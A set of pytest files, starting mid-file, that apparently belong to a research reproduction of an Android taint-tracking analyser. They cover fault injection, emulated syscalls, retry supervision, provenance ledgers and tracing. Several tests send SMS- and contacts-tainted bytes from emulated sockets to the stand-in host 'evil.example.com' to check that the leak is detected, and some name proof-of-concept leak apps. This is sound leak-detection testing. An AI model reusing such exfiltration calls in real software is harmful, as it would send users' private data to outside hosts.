        with pytest.raises(ValueError):
            FaultSpec(kind="syscall", syscall="write",
                      errno_value=int(Errno.EINTR), partial_bytes=2)

    def test_syscall_target_restricted(self):
        with pytest.raises(ValueError):
            FaultSpec(kind="syscall", syscall="open",
                      errno_value=int(Errno.EINTR))


class TestActivation:
    def test_decode_fires_once_at_threshold(self):
        active = FaultPlan.parse("decode@5").activate()
        active("step", None, pc=0x100, instruction_count=4)  # below: no-op
        with pytest.raises(DecodeError) as info:
            active("step", None, pc=0x104, instruction_count=5)
        assert info.value.pc == 0x104
        # Consumed: later steps run clean (this is what lets a retry
        # reach the fault-free result).
        active("step", None, pc=0x108, instruction_count=6)
        assert active.exhausted
        assert [f.spec.describe() for f in active.fired] == ["decode@5"]

    def test_memory_fault(self):
        active = FaultPlan.parse("memory@1").activate()
        with pytest.raises(MemoryError_):
            active("step", None, pc=0, instruction_count=1)

    def test_hook_fault_by_name(self):
        active = FaultPlan.parse("hook:sink.entry").activate()
        active.on_hook("other.entry", 10)  # no match: no-op
        with pytest.raises(InjectedHookFault):
            active.on_hook("sink.entry", 11)
        active.on_hook("sink.entry", 12)  # consumed

    def test_syscall_fault_decisions(self):
        active = FaultPlan.parse("eintr:sendto,partial:2:write").activate()
        assert active.syscall_fault("sendto", 10) == \
            ("errno", int(Errno.EINTR))
        assert active.syscall_fault("sendto", 10) is None  # consumed
        assert active.syscall_fault("write", 10) == ("partial", 2)
        assert active.syscall_fault("send", 10) is None  # never planned

    def test_repeat_fires_n_times(self):
        active = FaultPlan.parse("eintr:write*2").activate()
        assert active.syscall_fault("write", 1) is not None
        assert active.syscall_fault("write", 1) is not None
        assert active.syscall_fault("write", 1) is None

    def test_plan_reactivation_is_fresh(self):
        plan = FaultPlan.parse("eintr:write")
        first = plan.activate()
        first.syscall_fault("write", 1)
        assert plan.activate().syscall_fault("write", 1) is not None


class TestRandomPlans:
    def test_deterministic_for_a_seed(self):
        assert FaultPlan.random(42).describe() == \
            FaultPlan.random(42).describe()

    def test_different_seeds_differ(self):
        plans = {FaultPlan.random(seed).describe() for seed in range(20)}
        assert len(plans) > 1

    def test_specs_are_valid(self):
        for seed in range(50):
            plan = FaultPlan.random(seed, faults=4)
            assert len(plan.specs) == 4  # __post_init__ validated each
