"""Partial-write and transient-errno semantics at the kernel boundary."""

import pytest

from repro.common.errors import TransientSyscallFault
from repro.common.taint import TAINT_CLEAR, TAINT_SMS
from repro.kernel import Kernel
from repro.kernel.kernel import O_CREAT
from repro.kernel.syscalls import Errno
from repro.memory import Memory
from repro.resilience import FaultPlan


@pytest.fixture
def kernel():
    k = Kernel(Memory())
    k.spawn_process("com.example.app")
    return k


def connected_socket(kernel):
    fd = kernel.sys_socket()
    kernel.sys_connect(fd, "evil.example.com:80")
    return fd


class TestTransientErrno:
    def test_eintr_raises_transient_fault(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("eintr:send").activate().syscall_fault
        fd = connected_socket(kernel)
        with pytest.raises(TransientSyscallFault) as info:
            kernel.sys_send(fd, b"data")
        assert info.value.syscall == "send"
        assert info.value.errno_value == int(Errno.EINTR)
        # Consumed: the retry goes through and nothing was sent twice.
        assert kernel.sys_send(fd, b"data") == 4
        assert len(kernel.network.transmissions_to("evil")) == 1

    def test_eagain_on_write(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("eagain:write").activate().syscall_fault
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        with pytest.raises(TransientSyscallFault):
            kernel.sys_write(fd, b"abc")
        # The file saw none of the payload.
        assert kernel.filesystem.lookup("/sdcard/f").size == 0


class TestPartialWrites:
    def test_short_count_truncates_payload(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:2:write").activate().syscall_fault
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        assert kernel.sys_write(fd, b"abcdef") == 2
        assert kernel.filesystem.read_text("/sdcard/f") == "ab"

    def test_short_count_taints_only_emitted_bytes(self, kernel):
        """The acceptance property: a short sendto must carry exactly the
        emitted bytes' taints to the sink — no more, no less."""
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:4:sendto").activate().syscall_fault
        fd = kernel.sys_socket()
        taints = [TAINT_CLEAR] * 4 + [TAINT_SMS] * 2
        kernel.sys_sendto(fd, b"xxxxSS", "evil.example.com:80",
                          taints=taints)
        sent = kernel.network.transmissions_to("evil")[0]
        assert sent.payload == b"xxxx"
        assert sent.taint_union == TAINT_CLEAR  # SMS bytes never left

    def test_short_count_keeps_emitted_taints(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:2:send").activate().syscall_fault
        fd = connected_socket(kernel)
        kernel.sys_send(fd, b"SSxx", taints=[TAINT_SMS] * 2
                        + [TAINT_CLEAR] * 2)
        sent = kernel.network.transmissions_to("evil")[0]
        assert sent.payload == b"SS"
        assert sent.taint_union == TAINT_SMS

    def test_oversized_partial_clamps_to_payload(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:99:write").activate().syscall_fault
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        assert kernel.sys_write(fd, b"abc") == 3

    def test_no_hook_means_no_fault(self, kernel):
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        assert kernel.sys_write(fd, b"abcdef") == 6
