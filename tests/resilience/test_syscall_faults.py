"""Partial-write and transient-errno semantics at the kernel boundary."""

import pytest

from repro.common.errors import KernelError, TransientSyscallFault
from repro.common.taint import TAINT_CLEAR, TAINT_CONTACTS, TAINT_SMS
from repro.kernel import Kernel
from repro.kernel.kernel import O_CREAT
from repro.kernel.syscalls import Errno
from repro.memory import Memory
from repro.observability.ledger import Loc, ProvenanceLedger
from repro.resilience import FaultPlan


@pytest.fixture
def kernel():
    k = Kernel(Memory())
    k.spawn_process("com.example.app")
    return k


def connected_socket(kernel):
    fd = kernel.sys_socket()
    kernel.sys_connect(fd, "evil.example.com:80")
    return fd


class TestTransientErrno:
    def test_eintr_raises_transient_fault(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("eintr:send").activate().syscall_fault
        fd = connected_socket(kernel)
        with pytest.raises(TransientSyscallFault) as info:
            kernel.sys_send(fd, b"data")
        assert info.value.syscall == "send"
        assert info.value.errno_value == int(Errno.EINTR)
        # Consumed: the retry goes through and nothing was sent twice.
        assert kernel.sys_send(fd, b"data") == 4
        assert len(kernel.network.transmissions_to("evil")) == 1

    def test_eagain_on_write(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("eagain:write").activate().syscall_fault
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        with pytest.raises(TransientSyscallFault):
            kernel.sys_write(fd, b"abc")
        # The file saw none of the payload.
        assert kernel.filesystem.lookup("/sdcard/f").size == 0


class TestPartialWrites:
    def test_short_count_truncates_payload(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:2:write").activate().syscall_fault
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        assert kernel.sys_write(fd, b"abcdef") == 2
        assert kernel.filesystem.read_text("/sdcard/f") == "ab"

    def test_short_count_taints_only_emitted_bytes(self, kernel):
        """The acceptance property: a short sendto must carry exactly the
        emitted bytes' taints to the sink — no more, no less."""
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:4:sendto").activate().syscall_fault
        fd = kernel.sys_socket()
        taints = [TAINT_CLEAR] * 4 + [TAINT_SMS] * 2
        kernel.sys_sendto(fd, b"xxxxSS", "evil.example.com:80",
                          taints=taints)
        sent = kernel.network.transmissions_to("evil")[0]
        assert sent.payload == b"xxxx"
        assert sent.taint_union == TAINT_CLEAR  # SMS bytes never left

    def test_short_count_keeps_emitted_taints(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:2:send").activate().syscall_fault
        fd = connected_socket(kernel)
        kernel.sys_send(fd, b"SSxx", taints=[TAINT_SMS] * 2
                        + [TAINT_CLEAR] * 2)
        sent = kernel.network.transmissions_to("evil")[0]
        assert sent.payload == b"SS"
        assert sent.taint_union == TAINT_SMS

    def test_oversized_partial_clamps_to_payload(self, kernel):
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:99:write").activate().syscall_fault
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        assert kernel.sys_write(fd, b"abc") == 3

    def test_no_hook_means_no_fault(self, kernel):
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        assert kernel.sys_write(fd, b"abcdef") == 6


class TestPartialWriteSinkRecording:
    """The sink edge must describe the truncated payload, not the original.

    Pins the ordering fix: ``_record_sink`` fires *after* the device
    accepted the bytes, over the accepted prefix only, on both the file
    and the socket branch of ``sys_write``.
    """

    def _ledgered(self, kernel):
        kernel.ledger = ProvenanceLedger()
        return kernel.ledger

    def test_socket_write_short_count_and_sink_edge(self, kernel):
        ledger = self._ledgered(kernel)
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:3:write").activate().syscall_fault
        fd = connected_socket(kernel)
        taints = [TAINT_SMS] * 3 + [TAINT_CONTACTS] * 3
        # The short count is what sys_write returns...
        assert kernel.sys_write(fd, b"SSSCCC", taints=taints,
                                src_loc=Loc.mem(0x4000, 6)) == 3
        # ...the wire saw only the emitted prefix...
        sent = kernel.network.transmissions_to("evil")[0]
        assert sent.payload == b"SSS"
        assert sent.taint_union == TAINT_SMS
        # ...and so did the sink edge: tag excludes the truncated
        # CONTACTS tail, and the native source spans 3 bytes, not 6.
        (edge,) = ledger.sink_edges()
        assert edge.tag == TAINT_SMS
        assert edge.src.kind == "mem"
        assert (edge.src.base, edge.src.length) == (0x4000, 3)

    def test_file_write_short_count_offset_and_sink_edge(self, kernel):
        ledger = self._ledgered(kernel)
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:2:write").activate().syscall_fault
        fd = kernel.sys_open("/sdcard/f", O_CREAT)
        taints = [TAINT_SMS] * 2 + [TAINT_CONTACTS] * 4
        assert kernel.sys_write(fd, b"SSCCCC", taints=taints,
                                src_loc=Loc.mem(0x5000, 6)) == 2
        # The descriptor advanced by the truncated count only.
        descriptor = kernel.current.fds[fd]
        assert descriptor.offset == 2
        assert kernel.filesystem.read_text("/sdcard/f") == "SS"
        (edge,) = ledger.sink_edges()
        assert edge.tag == TAINT_SMS
        assert (edge.src.base, edge.src.length) == (0x5000, 2)

    def test_sendto_short_count_sink_edge_clipped(self, kernel):
        ledger = self._ledgered(kernel)
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:1:sendto").activate().syscall_fault
        fd = kernel.sys_socket()
        kernel.sys_sendto(fd, b"SC", "evil.example.com:80",
                          taints=[TAINT_SMS, TAINT_CONTACTS],
                          src_loc=Loc.mem(0x6000, 2))
        (edge,) = ledger.sink_edges()
        assert edge.tag == TAINT_SMS
        assert edge.src.length == 1

    def test_zero_byte_partial_records_no_sink_edge(self, kernel):
        ledger = self._ledgered(kernel)
        kernel.syscall_fault_hook = \
            FaultPlan.parse("partial:0:send").activate().syscall_fault
        fd = connected_socket(kernel)
        assert kernel.sys_send(fd, b"SS", taints=[TAINT_SMS] * 2,
                               src_loc=Loc.mem(0x7000, 2)) == 0
        assert ledger.sink_edges() == []

    def test_failed_send_records_no_sink_edge(self, kernel):
        """A send the device rejected never reached a sink."""
        ledger = self._ledgered(kernel)
        fd = kernel.sys_socket()  # never connected
        with pytest.raises(KernelError):
            kernel.sys_write(fd, b"SS", taints=[TAINT_SMS] * 2)
        assert ledger.sink_edges() == []
