"""Supervisor tests: retry/backoff, watchdog budget, crash reports."""

from types import SimpleNamespace

import pytest

from repro.common.errors import TransientSyscallFault
from repro.cpu.assembler import assemble
from repro.emulator import Emulator
from repro.resilience import (
    OUTCOME_CRASHED,
    OUTCOME_OK,
    OUTCOME_TIMEOUT,
    FaultPlan,
    Supervisor,
)

CODE_BASE = 0x0001_0000


def make_supervisor(**overrides):
    sleeps = []
    defaults = dict(budget=100_000, max_retries=3, backoff_base=0.5,
                    backoff_factor=2.0, sleep=sleeps.append)
    defaults.update(overrides)
    return Supervisor(**defaults), sleeps


def run_program(ctx, source):
    """Build a bare emulator, attach it, and run ``main``."""
    emu = Emulator()
    program = assemble(source, base=CODE_BASE)
    emu.load(CODE_BASE, program.code)
    emu.cpu.sp = 0x0800_0000
    ctx.attach(SimpleNamespace(emu=emu, kernel=SimpleNamespace()))
    return emu.call(program.entry("main"))


class TestRetryPolicy:
    def test_transient_fault_retried_with_backoff(self):
        supervisor, sleeps = make_supervisor()
        calls = []

        def analysis(ctx):
            calls.append(ctx)
            if len(calls) < 3:
                raise TransientSyscallFault("sendto", 4)
            return "done"

        result = supervisor.run("app", analysis)
        assert result.status == OUTCOME_OK
        assert result.value == "done"
        assert result.attempts == 3
        assert result.backoff_delays == [0.5, 1.0]
        assert sleeps == [0.5, 1.0]
        # Each attempt got a fresh context (fresh ring buffer, platform).
        assert len({id(c) for c in calls}) == 3

    def test_retries_exhausted_becomes_crashed(self):
        supervisor, sleeps = make_supervisor(max_retries=2)

        def analysis(ctx):
            raise TransientSyscallFault("write", 11)

        result = supervisor.run("app", analysis)
        assert result.status == OUTCOME_CRASHED
        assert result.attempts == 3  # initial try + 2 retries
        assert "transient-retries-exhausted" in result.error
        assert result.crash_report is not None
        assert len(sleeps) == 2

    def test_consumed_faults_do_not_refire_on_retry(self):
        """One activation spans all attempts: retry converges to ok."""
        supervisor, __ = make_supervisor()

        def analysis(ctx):
            decision = ctx.active_plan.syscall_fault("sendto", 8)
            if decision is not None:
                raise TransientSyscallFault("sendto", decision[1])
            return "sent"

        result = supervisor.run("app", analysis,
                                plan=FaultPlan.parse("eintr:sendto"))
        assert result.status == OUTCOME_OK
        assert result.attempts == 2
        assert result.injected_faults == ["eintr:sendto"]


class TestRetryHygiene:
    def test_fast_path_rearmed_between_attempts(self):
        """A retry must not inherit the failed attempt's slow path."""
        supervisor, __ = make_supervisor()
        rearms = []
        engine = SimpleNamespace(rearm_fast_path=lambda: rearms.append(1))
        attempts = []

        def analysis(ctx):
            ctx.platform = SimpleNamespace(
                ndroid=SimpleNamespace(taint_engine=engine,
                                       degraded_events=0,
                                       quarantined_hooks=set()))
            attempts.append(1)
            if len(attempts) < 3:
                raise TransientSyscallFault("sendto", 4)
            return "done"

        result = supervisor.run("app", analysis)
        assert result.status == OUTCOME_OK
        assert result.attempts == 3
        assert len(rearms) == 2  # once before each retry, not after success

    def test_rearm_is_a_noop_without_a_platform(self):
        supervisor, __ = make_supervisor()
        calls = []

        def analysis(ctx):
            calls.append(1)
            if len(calls) < 2:
                raise TransientSyscallFault("write", 4)
            return "ok"

        assert supervisor.run("bare", analysis).status == OUTCOME_OK

    def test_jittered_backoff_stays_bounded_and_deterministic(self):
        def run_once():
            supervisor, sleeps = make_supervisor(backoff_jitter=0.5)
            calls = []

            def analysis(ctx):
                calls.append(1)
                if len(calls) < 3:
                    raise TransientSyscallFault("sendto", 4)
                return "done"

            supervisor.run("jittery", analysis)
            return sleeps

        first, second = run_once(), run_once()
        # Deterministic: the RNG is keyed on the supervised label.
        assert first == second
        # Bounded: stretched by at most the jitter fraction, never shrunk.
        for delay, core in zip(first, [0.5, 1.0]):
            assert core <= delay <= core * 1.5
        assert first != [0.5, 1.0]  # the jitter actually engaged


class TestWatchdog:
    def test_budget_timeout_on_runaway_loop(self):
        supervisor, __ = make_supervisor(budget=500)

        def analysis(ctx):
            return run_program(ctx, """
            main:
                b main
            """)

        result = supervisor.run("spinner", analysis)
        assert result.status == OUTCOME_TIMEOUT
        assert result.crash_report is not None
        assert result.crash_report.error_type == "AnalysisTimeout"
        assert "500" in result.crash_report.error_message
        assert result.crash_report.instruction_count >= 500

    def test_budget_none_disables_watchdog(self):
        supervisor, __ = make_supervisor(budget=None)

        def analysis(ctx):
            return run_program(ctx, """
            main:
                mov r0, #42
                bx lr
            """)

        result = supervisor.run("app", analysis)
        assert result.status == OUTCOME_OK
        assert result.value == 42


class TestCrashContainment:
    def test_repro_error_contained_with_report(self):
        supervisor, __ = make_supervisor()

        def analysis(ctx):
            return run_program(ctx, """
            main:
                mov r0, #1
                mov r1, #2
                .word 0xf7f0f0f0
            """)

        result = supervisor.run("hostile", analysis)
        assert result.status == OUTCOME_CRASHED
        report = result.crash_report
        assert report.error_type == "DecodeError"
        # Enriched EmulationError context made it into the report.
        assert report.fault_pc == CODE_BASE + 8
        assert report.fault_mode == "arm"
        assert report.fault_word == 0xF7F0_F0F0
        # CPU snapshot + execution tail.
        assert report.registers["r0"] == 1
        assert report.registers["r1"] == 2
        moves = [e for e in report.last_instructions
                 if e["mnemonic"] == "mov"]
        assert len(moves) == 2
        assert "DecodeError" in report.format()
        assert report.to_dict()["fault_pc"] == CODE_BASE + 8

    def test_host_level_errors_are_not_swallowed(self):
        supervisor, __ = make_supervisor()

        def analysis(ctx):
            raise RuntimeError("a real bug, not a guest fault")

        with pytest.raises(RuntimeError):
            supervisor.run("buggy", analysis)

    def test_injected_decode_fault_through_emulator(self):
        supervisor, __ = make_supervisor()

        def analysis(ctx):
            return run_program(ctx, """
            main:
                mov r0, #7
                mov r0, #7
                mov r0, #7
                bx lr
            """)

        result = supervisor.run("app", analysis,
                                plan=FaultPlan.parse("decode@2"))
        assert result.status == OUTCOME_CRASHED
        assert result.injected_faults == ["decode@2"]
        assert "injected decode fault" in result.error

    def test_describe_mentions_status_and_attempts(self):
        supervisor, __ = make_supervisor()

        def analysis(ctx):
            if ctx.active_plan and not ctx.active_plan.exhausted:
                ctx.active_plan.syscall_fault("write", 1)
                raise TransientSyscallFault("write", 4)
            return 0

        result = supervisor.run("app", analysis,
                                plan=FaultPlan.parse("eintr:write"))
        assert "app: ok (attempt 2)" in result.describe()
