"""Golden-path tests: the three PoC apps' reconstructed provenance.

For each case-study app the ledger must reproduce the complete
source→sink chain the paper walks — naming the JNI crossing the data
rode through and the syscall it finally left by.
"""

import pytest

from repro.apps import ALL_SCENARIOS
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform


def _traced_path(name: str):
    platform = make_platform("ndroid", trace=True)
    run_scenario(ALL_SCENARIOS[name](), platform)
    leaks = platform.leaks.records
    assert leaks, f"{name}: expected a reported leak"
    leak = leaks[0]
    path = platform.observability.ledger.reconstruct(
        taint=leak.taint, destination=leak.destination)
    assert path, f"{name}: no provenance path reconstructed"
    return platform, leak, path


def _mechanisms(path):
    return [edge.mechanism for edge in path]


def test_ephone_contacts_to_sip_register():
    platform, leak, path = _traced_path("ephone")
    mechanisms = _mechanisms(path)
    # Starts at the framework source, enters native code through the
    # registration JNI method, crosses via GetStringUTFChars, and leaves
    # through the sendto syscall.
    assert mechanisms[0] == "source:framework"
    jni_entries = [e for e in path if e.mechanism == "jni:dvmCallJNIMethod"]
    assert jni_entries and "callregister" in jni_entries[0].location
    assert "jni:GetStringUTFChars" in mechanisms
    assert path[-1].mechanism == "sink:sendto"
    assert path[-1].location == "syscall:sendto"
    assert leak.destination in path[-1].dst.name


def test_poc_case2_contacts_to_sdcard_file():
    platform, leak, path = _traced_path("poc_case2")
    mechanisms = _mechanisms(path)
    assert mechanisms[0] == "source:framework"
    jni_entries = [e for e in path if e.mechanism == "jni:dvmCallJNIMethod"]
    assert jni_entries and "recordContact" in jni_entries[0].location
    assert "jni:GetStringUTFChars" in mechanisms
    assert path[-1].mechanism.startswith("sink:")
    assert path[-1].location == "syscall:write"
    assert "/sdcard/CONTACTS" in path[-1].dst.name


def test_poc_case3_newstringutf_callback_to_socket():
    platform, leak, path = _traced_path("poc_case3")
    mechanisms = _mechanisms(path)
    assert mechanisms[0] == "source:framework"
    jni_entries = [e for e in path if e.mechanism == "jni:dvmCallJNIMethod"]
    assert jni_entries and "evadeTaintDroid" in jni_entries[0].location
    # The native→Java return crossing TaintDroid alone cannot see:
    # NewStringUTF re-materialises the taint, CallVoidMethod carries it
    # back into the Java context.
    assert "jni:NewStringUTF" in mechanisms
    assert any(m.startswith("jni:dvmCallMethod") for m in mechanisms)
    assert path[-1].location == "syscall:send"


@pytest.mark.parametrize("name", ["ephone", "poc_case2", "poc_case3"])
def test_paths_export_to_dot(name):
    platform, leak, path = _traced_path(name)
    dot = platform.observability.ledger.to_dot([path])
    assert dot.startswith("digraph provenance")
    assert "doubleoctagon" in dot


def test_benign_app_has_no_sink_edges():
    platform = make_platform("ndroid", trace=True)
    run_scenario(ALL_SCENARIOS["benign"](), platform)
    ledger = platform.observability.ledger
    assert not ledger.sink_edges()
    assert not platform.leaks.records
