"""Unit tests for the sampling profiler and its zero-cost contract."""

import time

from repro.cpu.assembler import assemble
from repro.emulator.emulator import Emulator
from repro.observability.profiler import SamplingProfiler, SymbolResolver

LOOP = """
main:
    mov r0, #0
    mov r1, #200
loop:
    add r0, r0, #1
    subs r1, r1, #1
    bne loop
    bx lr
"""

BASE = 0x6000_0000


def _run_loop(profiler=None) -> Emulator:
    emu = Emulator()
    program = assemble(LOOP, base=BASE)
    emu.load(BASE, program.code)
    emu.memory_map.map(BASE, 0x1000, "libloop.so")
    emu.cpu.sp = 0x0800_0000
    if profiler is not None:
        emu.profiler = profiler
    emu.call(program.entry("main"))
    return emu


def test_samples_land_in_the_loop():
    profiler = SamplingProfiler(interval=32)
    emu = _run_loop(profiler)
    assert emu.instruction_count > 500
    assert profiler.sample_count >= emu.instruction_count // 32 - 2
    resolver = SymbolResolver()
    resolver.add_symbol(BASE, "libloop.so", "main")
    resolver.add_module(BASE, BASE + 0x1000, "libloop.so")
    folded = profiler.folded(resolver)
    assert folded, "expected at least one folded frame"
    frame, count = folded[0].rsplit(" ", 1)
    assert frame == "libloop.so;main"
    assert int(count) == profiler.sample_count


def test_sampling_rule_advances_by_interval():
    profiler = SamplingProfiler(interval=100)
    assert profiler.next_sample == 100
    profiler.take_sample(0x1000, 105)
    assert profiler.next_sample == 205
    profiler.set_interval(10)
    profiler.take_sample(0x1000, 210)
    assert profiler.next_sample == 220


def test_profiler_attach_does_not_change_execution():
    plain = _run_loop(None)
    profiled = _run_loop(SamplingProfiler(interval=64))
    assert plain.instruction_count == profiled.instruction_count
    assert plain.cpu.regs[0] == profiled.cpu.regs[0]
    # Attaching a profiler must not force the single-step engine.
    assert profiled.translation_stats()["blocks"] > 0


def test_resolver_falls_back_to_module_then_unknown():
    resolver = SymbolResolver()
    resolver.add_module(0x1000, 0x2000, "libx.so")
    assert resolver.resolve(0x1800) == "libx.so;0x00001800"
    assert resolver.resolve(0x9000) == "unknown;0x00009000"
    resolver.add_symbol(0x1001, "libx.so", "f")  # thumb bit masked
    assert resolver.resolve(0x1800) == "libx.so;f"


def test_write_folded(tmp_path):
    profiler = SamplingProfiler(interval=1)
    profiler.take_sample(0x1000, 1)
    profiler.take_sample(0x1000, 2)
    target = tmp_path / "profile.folded"
    assert profiler.write_folded(str(target)) == 1
    assert target.read_text() == "unknown;0x00001000 2\n"
