"""Flight spool + fleet timeline aggregator tests.

The properties under test are the crash-facing ones: a SIGKILL-torn
spool replays cleanly, an unmatched begin becomes an explicit open-span
marker, and the Chrome export passes its own schema validator.
"""

import json
import os

from repro.observability.flight import (
    FlightSpool,
    aggregate_trace_dir,
    build_timeline,
    collect_spools,
    read_spool,
    render_timeline,
    to_chrome_trace,
    validate_chrome_trace,
    write_trace_artifacts,
)
from repro.observability.spans import SpanTracer


def _traced_spool(path, trace_id="job1"):
    tracer = SpanTracer(spool=FlightSpool(path), trace_id=trace_id)
    with tracer.span("job", cat="worker"):
        with tracer.span("scenario_run", cat="worker"):
            tracer.complete("tb_translate", tracer.now(), cat="engine")
        tracer.event("committed", cat="worker")
        tracer.counter("tb.hits", 3)
    tracer.close()
    return tracer


class TestSpoolRoundTrip:
    def test_round_trip(self, tmp_path):
        path = str(tmp_path / "w.jsonl")
        tracer = _traced_spool(path)
        records = list(read_spool(path))
        assert len(records) == len(tracer.records)
        assert [r["ph"] for r in records] == \
            [r["ph"] for r in tracer.records]

    def test_missing_spool_yields_nothing(self, tmp_path):
        assert list(read_spool(str(tmp_path / "absent.jsonl"))) == []

    def test_torn_tail_is_skipped_not_raised(self, tmp_path):
        path = str(tmp_path / "torn.jsonl")
        _traced_spool(path)
        whole = list(read_spool(path))
        with open(path, "a") as fh:
            fh.write('{"ph":"E","ts":12345.0,"pi')  # SIGKILL mid-write
        assert list(read_spool(path)) == whole

    def test_garbage_lines_are_skipped(self, tmp_path):
        path = str(tmp_path / "noisy.jsonl")
        with open(path, "w") as fh:
            fh.write("not json at all\n")
            fh.write("\n")
            fh.write('["a","list","not","a","record"]\n')
            fh.write('{"no_ph_or_ts": true}\n')
            fh.write('{"ph":"i","ts":5.0,"pid":1,"name":"ok"}\n')
        records = list(read_spool(path))
        assert [r["name"] for r in records] == ["ok"]

    def test_collect_spools_merges_time_sorted(self, tmp_path):
        for pid, base in ((1, 100.0), (2, 50.0)):
            with FlightSpool(str(tmp_path / f"p{pid}.jsonl")) as spool:
                spool.write({"ph": "i", "ts": base, "pid": pid, "name": "x"})
        (tmp_path / "README.txt").write_text("not a spool")
        records = collect_spools(str(tmp_path))
        assert [r["pid"] for r in records] == [2, 1]
        assert collect_spools(str(tmp_path / "missing")) == []


class TestBuildTimeline:
    def test_pairs_begins_with_ends(self, tmp_path):
        path = str(tmp_path / "w.jsonl")
        _traced_spool(path)
        timeline = build_timeline(read_spool(path))
        names = {s["name"] for s in timeline["spans"]}
        assert names == {"job", "scenario_run", "tb_translate"}
        assert timeline["open_spans"] == 0
        assert all(s.get("dur", -1) >= 0 for s in timeline["spans"])
        assert [e["name"] for e in timeline["events"]] == ["committed"]
        assert [c["value"] for c in timeline["counters"]] == [3]
        # Timestamps are rebased: the earliest record sits at t=0.
        assert min(s["ts"] for s in timeline["spans"]) == 0.0

    def test_unmatched_begin_becomes_open_span_marker(self):
        records = [
            {"ph": "B", "ts": 10.0, "pid": 7, "span": 1, "name": "job",
             "cat": "worker", "trace": "dead"},
            {"ph": "i", "ts": 40.0, "pid": 7, "name": "last_gasp",
             "cat": "worker"},
        ]
        timeline = build_timeline(records)
        (span,) = timeline["spans"]
        assert span["open"] is True
        assert timeline["open_spans"] == 1
        # Duration runs to the last ts that pid wrote, not to infinity.
        assert span["dur"] == 30.0

    def test_span_ids_scoped_per_pid(self):
        # Two processes both mint span id 1; the pairing must not
        # cross wires.
        records = [
            {"ph": "B", "ts": 0.0, "pid": 1, "span": 1, "name": "a"},
            {"ph": "B", "ts": 1.0, "pid": 2, "span": 1, "name": "b"},
            {"ph": "E", "ts": 5.0, "pid": 2, "span": 1},
        ]
        timeline = build_timeline(records)
        by_name = {s["name"]: s for s in timeline["spans"]}
        assert by_name["b"]["dur"] == 4.0
        assert by_name["a"].get("open") is True

    def test_end_without_begin_is_dropped(self):
        timeline = build_timeline([{"ph": "E", "ts": 1.0, "pid": 1,
                                    "span": 9}])
        assert timeline["spans"] == []

    def test_empty_input(self):
        timeline = build_timeline([])
        assert timeline["spans"] == []
        assert timeline["open_spans"] == 0


class TestChromeExport:
    def test_export_validates_and_labels_processes(self, tmp_path):
        sched = SpanTracer(spool=FlightSpool(str(tmp_path / "s.jsonl")),
                           trace_id="job1")
        sched.pid = 100
        with sched.span("job", cat="scheduler"):
            pass
        sched.close()
        worker_path = str(tmp_path / "w.jsonl")
        worker = _traced_spool(worker_path)
        timeline = aggregate_trace_dir(str(tmp_path))
        chrome = to_chrome_trace(timeline)
        assert validate_chrome_trace(chrome) == []
        metadata = {e["pid"]: e["args"]["name"]
                    for e in chrome["traceEvents"] if e["ph"] == "M"}
        assert metadata[100] == "scheduler [100]"
        assert metadata[worker.pid] == f"worker [{worker.pid}]"
        # Trace ids survive into args for Perfetto queries.
        traced = [e for e in chrome["traceEvents"]
                  if e.get("args", {}).get("trace") == "job1"]
        assert traced

    def test_open_span_exported_as_flagged_complete_event(self):
        timeline = build_timeline([
            {"ph": "B", "ts": 0.0, "pid": 1, "span": 1, "name": "job",
             "cat": "worker"},
            {"ph": "i", "ts": 9.0, "pid": 1, "name": "tick"},
        ])
        chrome = to_chrome_trace(timeline)
        assert validate_chrome_trace(chrome) == []
        (span_event,) = [e for e in chrome["traceEvents"]
                         if e["ph"] == "X"]
        assert span_event["args"]["open"] is True
        assert span_event["dur"] == 9.0

    def test_validator_catches_malformed_traces(self):
        assert validate_chrome_trace([]) == ["trace is not an object"]
        assert validate_chrome_trace({}) == ["traceEvents is not a list"]
        errors = validate_chrome_trace({"traceEvents": [
            "not a dict",
            {"ph": "Z", "name": "bad-phase", "pid": 1, "ts": 0},
            {"ph": "X", "name": "", "pid": 1, "ts": 0, "dur": 1},
            {"ph": "X", "name": "negative", "pid": 1, "ts": -5, "dur": 1},
            {"ph": "X", "name": "no-dur", "pid": 1, "ts": 0},
            {"ph": "C", "name": "no-value", "pid": 1, "ts": 0, "args": {}},
        ]})
        assert len(errors) == 6


class TestArtifacts:
    def test_render_timeline_marks_open_spans(self):
        timeline = build_timeline([
            {"ph": "B", "ts": 0.0, "pid": 1, "span": 1, "name": "job",
             "cat": "worker", "trace": "t1"},
            {"ph": "i", "ts": 1000.0, "pid": 1, "name": "tick"},
        ])
        text = render_timeline(timeline)
        assert "OPEN" in text
        assert "worker:job" in text
        assert "[t1]" in text

    def test_render_timeline_empty(self):
        assert "(no spans recorded)" in render_timeline(build_timeline([]))

    def test_write_trace_artifacts(self, tmp_path):
        _traced_spool(str(tmp_path / "w.jsonl"))
        paths = write_trace_artifacts(str(tmp_path))
        with open(paths["trace"]) as fh:
            chrome = json.load(fh)
        assert validate_chrome_trace(chrome) == []
        assert os.path.exists(paths["timeline"])
        with open(paths["timeline"]) as fh:
            assert "fleet timeline" in fh.read()
