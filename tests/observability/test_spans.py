"""Unit tests for the span tracer (the flight recorder's write side)."""

import threading

